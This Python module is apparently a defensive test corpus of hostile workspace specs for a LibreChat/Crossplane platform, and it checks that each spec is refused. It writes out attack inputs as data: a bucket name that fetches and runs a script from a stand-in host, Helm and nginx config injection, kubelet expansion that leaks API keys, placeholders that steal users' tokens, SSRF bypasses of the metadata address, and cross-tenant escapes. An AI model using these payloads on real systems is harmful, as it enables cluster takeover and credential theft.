"""The project's hostile corpus: specs a team may write to harm the cluster, another team or the shared function,
one or more per class of harm found by reading the code as an attacker with the source would. Each is refused,
naming the field: by the API server too where a pattern or CEL rule can say it (`admission`), by the function
alone where only it knows (another namespace, the platform's tenancy, a Secret's size, the cluster's capacity).

tests/test_hostile.py runs every case through the function and `crossplane resource validate`; `make e2e` sends
the admission cases to a real API server.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any

BASE: dict[str, Any] = {"librechat": {"domain": "chat.team-a.example.com"}}
OPENAI = {"enabled": True, "apiKeySecretRef": {"name": "openai", "key": "api-key"}}
AWS_DATABASE = {
    "provider": "aws",
    "aws": {
        "region": "eu-west-1",
        "subnetIds": ["subnet-0a1b2c3d4e5f60001", "subnet-0a1b2c3d4e5f60002"],
        "vpcId": "vpc-0a1b2c3d4e5f60000",
        "allowedCidrs": ["10.20.0.0/16"],
    },
}
AZURE_IDS = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/network/providers/Microsoft.Network"


# The classes of harm the red team found; every one has cases in CORPUS (tests/test_hostile.py), and e2e refuses one
# admission can tell of each (hack/scenarios.py).
HARMS = (
    "helm template injection",
    "shell injection",
    "kubelet expansion",
    "argv option",
    "librechat placeholder",
    "ssrf",
    "tenancy",
    "exhaustion",
    "collision",
    "invalid object",
)


@dataclass(frozen=True)
class Hostile:
    harm: str  # the class of harm
    reason: str  # what the spec would do if admitted
    spec: dict[str, Any]  # merged into BASE
    field: str  # the field the refusal names
    admission: bool  # refused by the API server too (schema pattern or CEL)
    tenancy: dict[str, Any] | None = None  # the platform's tenancy in the Composition's input
    name: str = "chat"  # the workspace's name
    secrets: dict[str, dict[str, str]] = field(default_factory=dict)  # Secrets in the team's namespace

    def full_spec(self) -> dict[str, Any]:
        return merged(BASE, self.spec)


def merged(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(base)
    for key, value in patch.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = merged(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


MONGO_REF = {"librechat": {"mongodb": {"existingUriSecretRef": {"name": "mongo", "key": "uri"}}}}


def _mcp(url: str, **server: Any) -> dict[str, Any]:
    return {"librechat": {"mcpServers": [{"name": "tools", "url": url, **server}]}}


CORPUS: list[Hostile] = [
    # Cluster takeover through Helm: the chart prints ingress.className unquoted.
    Hostile(
        "helm template injection",
        "A class name with a line break and '---' adds a ClusterRoleBinding to cluster-admin to the chart's output.",
        {"librechat": {"ingress": {"className": "nginx\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: X"}}},
        "spec.librechat.ingress.className",
        admission=True,
    ),
    Hostile(
        "helm template injection",
        "An ingress class with spaces is no IngressClass name (and would print raw).",
        {"librechat": {"ingress": {"className": "nginx internal"}}},
        "spec.librechat.ingress.className",
        admission=True,
    ),
    Hostile(
        "helm template injection",
        "A TLS secret name of 300 characters is no Kubernetes name.",
        {"librechat": {"ingress": {"tls": {"secretName": "a" * 300}}}},
        "spec.librechat.ingress.tls.secretName",
        admission=True,
    ),
    # Shell injection: team values inside a script's text.
    Hostile(
        "shell injection",
        "A bucket name with a command substitution runs in the backup upload's shell (dump, keys, egress).",
        {
            "objectStorage": {
                "provider": "s3",
                "s3": {
                    "endpoint": "https://s3.example.com",
                    "bucket": "$(wget -qO- evil.example/p|sh)",
                    "accessKeyIdSecretRef": {"name": "s3", "key": "id"},
                    "secretAccessKeySecretRef": {"name": "s3", "key": "secret"},
                },
            },
            "backups": {"enabled": True},
        },
        "spec.objectStorage.s3.bucket",
        admission=True,
    ),
    Hostile(
        "kubelet expansion",
        "A vLLM model of $(VLLM_API_KEY) is expanded by the kubelet and sent out as a model name.",
        {"vllm": {"enabled": True, "model": "$(VLLM_API_KEY)"}},
        "spec.vllm.model",
        admission=True,
    ),
    Hostile(
        "argv option",
        "A vLLM model of --trust-remote-code becomes an option of vllm serve.",
        {"vllm": {"enabled": True, "model": "--trust-remote-code"}},
        "spec.vllm.model",
        admission=True,
    ),
    Hostile(
        "kubelet expansion",
        "A Firecrawl model of $(OPENAI_API_KEY) would put the key in an env value the process logs.",
        {"openai": OPENAI, "firecrawl": {"enabled": True, "provider": {"model": "$(OPENAI_API_KEY)"}}},
        "spec.firecrawl.provider.model",
        admission=True,
    ),
    # LibreChat's own placeholders.
    Hostile(
        "librechat placeholder",
        "A header of {{LIBRECHAT_USER_NAME}} is filled with each user's name (and ${...} then expanded).",
        _mcp("https://mcp.example.com", headers=[{"name": "X-User", "value": "{{LIBRECHAT_USER_NAME}}"}]),
        "spec.librechat.mcpServers[0].headers[0].value",
        admission=True,
    ),
    Hostile(
        "librechat placeholder",
        "An OpenID access token placeholder would send each user's token to the MCP host.",
        _mcp(
            "https://mcp.example.com",
            headers=[
                {"name": "X", "prefix": "{{LIBRECHAT_OPENID_ACCESS_TOKEN}}", "secretRef": {"name": "m", "key": "k"}}
            ],
        ),
        "spec.librechat.mcpServers[0].headers[0].prefix",
        admission=True,
    ),
    Hostile(
        "librechat placeholder",
        "A header Secret holding a placeholder is read by LibreChat after ${...} expansion.",
        _mcp("https://mcp.example.com", headers=[{"name": "X", "secretRef": {"name": "mcp", "key": "token"}}]),
        "spec.librechat.mcpServers[0].headers[0].secretRef",
        admission=False,
        secrets={"mcp": {"token": "{{LIBRECHAT_OPENID_ACCESS_TOKEN}}"}},
    ),
    Hostile(
        "librechat placeholder",
        "An env reference in the welcome message is refused like every placeholder.",
        {"librechat": {"interface": {"welcomeMessage": "Hi ${OPENAI_API_KEY}"}}},
        "spec.librechat.interface.welcomeMessage",
        admission=True,
    ),
    # SSRF through names.
    *(
        Hostile("ssrf", f"An MCP URL {why}.", _mcp(url), "spec.librechat.mcpServers[0].url", admission=True)
        for url, why in (
            ("http://169.254.169.254.nip.io/", "naming the metadata address through nip.io"),
            ("http://10-0-0-1.sslip.io/", "naming a private address through sslip.io"),
            ("https://kubernetes.default.svc/", "at the Kubernetes API"),
            ("http://kubernetes/", "at the Kubernetes API by its short name"),
            ("http://chat-mongodb:27017/", "naming a Service through the pod's search path"),
            ("http://%31%36%39.254.169.254/", "with a percent-encoded host"),
            ("http://169\uff0e254\uff0e169\uff0e254/", "with full-width dots"),
            ("http://[::ffff:169.254.169.254]/", "at an IPv4-mapped IPv6 literal"),
        )
    ),
    Hostile(
        "ssrf",
        "An MCP URL at another team's MongoDB Service (admission cannot know the namespace; the function does).",
        _mcp("http://chat-mongodb.team-b.svc.cluster.local:27017/"),
        "spec.librechat.mcpServers[0].url",
        admission=False,
    ),
    Hostile(
        "ssrf",
        "An S3 endpoint at another team's Service.",
        {
            "objectStorage": {
                "provider": "s3",
                "s3": {
                    "endpoint": "http://minio.team-b.svc:9000",
                    "bucket": "files",
                    "accessKeyIdSecretRef": {"name": "s3", "key": "id"},
                    "secretAccessKeySecretRef": {"name": "s3", "key": "secret"},
                },
            }
        },
        "spec.objectStorage.s3.endpoint",
        admission=False,
    ),
    Hostile(
        "ssrf",
        "An existing MongoDB URI (a Secret's value) at another team's Service.",
        MONGO_REF,
        "spec.librechat.mongodb.existingUriSecretRef",
        admission=False,
        secrets={"mongo": {"uri": "mongodb://u:p@chat-mongodb.team-b.svc.cluster.local:27017/LibreChat"}},
    ),
    Hostile(
        "ssrf",
        "The same, with the workspace's NetworkPolicies switched off: the tenancy rule does not depend on them.",
        {**MONGO_REF, "networkPolicies": {"enabled": False}},
        "spec.librechat.mongodb.existingUriSecretRef",
        admission=False,
        tenancy={"networkPoliciesOptional": True},
        secrets={"mongo": {"uri": "mongodb://u:p@chat-mongodb.team-b.svc:27017/LibreChat"}},
    ),
    # Tenancy of the platform's accounts and the cluster.
    Hostile(
        "tenancy",
        "A bucket in another GCP project.",
        {"openai": OPENAI, "objectStorage": {"provider": "gcp", "gcp": {"location": "EU", "project": "team-b-prod"}}},
        "spec.objectStorage.gcp.project",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "A storage account in another team's resource group.",
        {"objectStorage": {"provider": "azure", "azure": {"location": "westeurope", "resourceGroupName": "team-b"}}},
        "spec.objectStorage.azure.resourceGroupName",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "A database in a subnet the platform did not give teams.",
        {
            "openai": OPENAI,
            "database": {
                "provider": "azure",
                "azure": {
                    "location": "westeurope",
                    "resourceGroupName": "team-a",
                    "delegatedSubnetId": f"{AZURE_IDS}/virtualNetworks/core/subnets/payments",
                    "privateDnsZoneId": f"{AZURE_IDS}/privateDnsZones/privatelink.postgres.database.azure.com",
                },
            },
        },
        "spec.database.azure.delegatedSubnetId",
        admission=False,
        tenancy={"azure": {"subnetIds": [f"{AZURE_IDS}/virtualNetworks/workloads/subnets/postgres"]}},
    ),
    Hostile(
        "tenancy",
        "A database in another VPC than the platform's.",
        {"openai": OPENAI, "database": AWS_DATABASE},
        "spec.database.aws.vpcId",
        admission=False,
        tenancy={"aws": {"vpcIds": ["vpc-0fffffffffffffff0"]}},
    ),
    Hostile(
        "tenancy",
        "LibreChat's pods assuming another team's IAM role.",
        {
            "objectStorage": {
                "provider": "aws",
                "aws": {"region": "eu-west-1", "roleArn": "arn:aws:iam::123456789012:role/team-b-librechat"},
            }
        },
        "spec.objectStorage.aws.roleArn",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "A role path that passes a name rule: the policy is attached to the role named by the last segment, another "
        "team's, whatever the path.",
        {
            "objectStorage": {
                "provider": "aws",
                "aws": {"region": "eu-west-1", "roleArn": "arn:aws:iam::123456789012:role/team-a.x/team-b-librechat"},
            }
        },
        "spec.objectStorage.aws.roleArn",
        admission=True,
    ),
    Hostile(
        "ssrf",
        "An OpenID issuer naming another namespace's Service by its short name (the pod's search path finds it).",
        {
            "librechat": {
                "authentication": {
                    "openid": {
                        "clientId": "librechat",
                        "clientSecretRef": {"name": "oidc", "key": "secret"},
                        "issuer": "https://keycloak.team-b/realms/x",
                    }
                }
            }
        },
        "spec.librechat.authentication.openid.issuer",
        admission=True,
    ),
    Hostile(
        "ssrf",
        "An existing MongoDB URI at the metadata address.",
        MONGO_REF,
        "spec.librechat.mongodb.existingUriSecretRef",
        admission=False,
        secrets={"mongo": {"uri": "mongodb://u:p@169.254.169.254:27017/x"}},
    ),
    Hostile(
        "ssrf",
        "An existing MongoDB SRV name in another team's namespace.",
        MONGO_REF,
        "spec.librechat.mongodb.existingUriSecretRef",
        admission=False,
        secrets={"mongo": {"uri": "mongodb+srv://u:p@chat-mongodb.team-b.svc.cluster.local/x?tls=false"}},
    ),
    Hostile(
        "librechat placeholder",
        "A header prefix of '{' and a Secret value of '{X}}' form a placeholder only together.",
        _mcp(
            "https://mcp.example.com",
            headers=[{"name": "X", "prefix": "{", "secretRef": {"name": "mcp", "key": "token"}}],
        ),
        "spec.librechat.mcpServers[0].headers[0].secretRef",
        admission=False,
        secrets={"mcp": {"token": "{LIBRECHAT_OPENID_ACCESS_TOKEN}}"}},
    ),
    Hostile(
        "exhaustion",
        "More Secrets than Crossplane should fetch for one workspace.",
        {
            "librechat": {
                "mcpServers": [
                    {
                        "name": f"tools{i}",
                        "url": "https://mcp.example.com",
                        "headers": [{"name": "X", "secretRef": {"name": f"s{i:02d}", "key": "token"}}],
                    }
                    for i in range(20)
                ]
            }
        },
        "spec.librechat.mcpServers[16].headers[0].secretRef",
        admission=False,
    ),
    Hostile(
        "invalid object",
        "A schedule the CronJob controller refuses (minute 99).",
        {"backups": {"enabled": True, "schedule": "99 99 99 99 99"}},
        "spec.backups.schedule",
        admission=True,
    ),
    Hostile(
        "tenancy",
        "The largest RDS instance class.",
        {"openai": OPENAI, "database": merged(AWS_DATABASE, {"aws": {"instanceClass": "db.x2iedn.32xlarge"}})},
        "spec.database.aws.instanceClass",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "A StorageClass the platform did not list (an expensive or another team's class).",
        {"librechat": {"storage": {"storageClassName": "io2-premium"}}},
        "spec.librechat.storage.storageClassName",
        admission=False,
        tenancy={"storageClasses": ["gp3"]},
    ),
    Hostile(
        "tenancy",
        "Unbounded CPU: twenty vLLM pods of 64 CPUs each.",
        {
            "vllm": {
                "enabled": True,
                "model": "Qwen/Qwen2.5-7B-Instruct",
                "replicas": 20,
                "storage": {"accessMode": "ReadWriteMany"},
                "resources": {"requests": {"cpu": "64"}},
            }
        },
        "spec",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "Another team's host.",
        {"librechat": {"domain": "chat.team-b.apps.example.com"}},
        "spec.librechat.domain",
        admission=False,
        tenancy={"domains": ["*.{namespace}.apps.example.com"]},
    ),
    Hostile(
        "tenancy",
        "A chat domain that is the Kubernetes API's in-cluster name.",
        {"librechat": {"domain": "kubernetes.default.svc"}},
        "spec.librechat.domain",
        admission=True,
    ),
    Hostile(
        "tenancy",
        "A ClusterIssuer that is the cluster's internal CA, which would sign any host a team names.",
        {"librechat": {"ingress": {"tls": {"clusterIssuer": "internal-ca"}}}},
        "spec.librechat.ingress.tls.clusterIssuer",
        admission=False,
    ),
    Hostile(
        "tenancy",
        "An nginx annotation value that ends the directive and adds a location block to the shared controller.",
        {
            "librechat": {
                "ingress": {"annotations": {"nginx.ingress.kubernetes.io/proxy-body-size": "1m;\nlocation /x {}"}}
            }
        },
        "spec.librechat.ingress.annotations.nginx.ingress.kubernetes.io/proxy-body-size",
        admission=True,
    ),
    # Work the shared function does for one spec.
    Hostile(
        "exhaustion",
        "A Secret value of 512 KiB referenced by MCP headers: its copies would pass gRPC's 4 MiB limit.",
        {
            "librechat": {
                "mcpServers": [
                    {
                        "name": f"tools{i}",
                        "url": "https://mcp.example.com",
                        "headers": [{"name": "X", "secretRef": {"name": "big", "key": "token"}}],
                    }
                    for i in range(50)
                ]
            }
        },
        "spec.librechat.mcpServers[0].headers[0].secretRef",
        admission=False,
        secrets={"big": {"token": "x" * (512 * 1024)}},
    ),
    Hostile(
        "exhaustion",
        "An MCP header name of 300 characters makes an env key the API server refuses (a stuck workspace).",
        _mcp("https://mcp.example.com", headers=[{"name": "X" * 300, "value": "v"}]),
        "spec.librechat.mcpServers[0].headers[0].name",
        admission=True,
    ),
    # Two workspaces of one namespace composing the same objects.
    Hostile(
        "collision",
        "Workspace chat-firecrawl's redis is workspace chat's firecrawl-redis: a shared volume, deleted together.",
        {},
        "metadata.name",
        admission=True,
        name="chat-firecrawl",
    ),
    # Invalid objects through both layers.
    Hostile(
        "invalid object",
        "A GPU resource name with spaces.",
        {"ollama": {"enabled": True, "gpu": {"resourceName": "nvidia gpu"}}},
        "spec.ollama.gpu.resourceName",
        admission=True,
    ),
    Hostile(
        "invalid object",
        "A node selector key with spaces.",
        {"ollama": {"enabled": True, "gpu": {"nodeSelector": {"gpu type": "l4"}}}},
        "spec.ollama.gpu.nodeSelector",
        admission=True,
    ),
    Hostile(
        "invalid object",
        "A domain label of 64 characters, which DNS refuses.",
        {"librechat": {"domain": f"{'a' * 64}.example.com"}},
        "spec.librechat.domain",
        admission=True,
    ),
]
